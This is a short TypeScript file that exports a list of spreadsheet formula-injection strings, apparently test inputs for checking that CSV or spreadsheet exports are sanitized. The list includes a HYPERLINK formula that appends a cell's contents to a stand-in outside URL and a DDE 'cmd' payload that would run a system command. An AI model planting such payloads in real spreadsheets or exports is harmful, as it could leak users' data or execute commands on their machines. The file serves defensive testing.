/** Texts that a spreadsheet would execute. */
export const formulas: readonly string[] = [
  `=zqinj+1`,
  `=HYPERLINK("https://zqinj.invalid/"&A1)`,
  `+zqinj+1`,
  `-zqinj+1`,
  `@SUM(1+1)*zqinj`,
  `\t=zqinj+1`,
  `\r=zqinj+1`,
  `\n=zqinj+1`,
  `=cmd|'/C zqinj'!A0`,
  `",=zqinj+1,"`,
  `;=zqinj+1`,
  `\uff1dzqinj+1`,
];
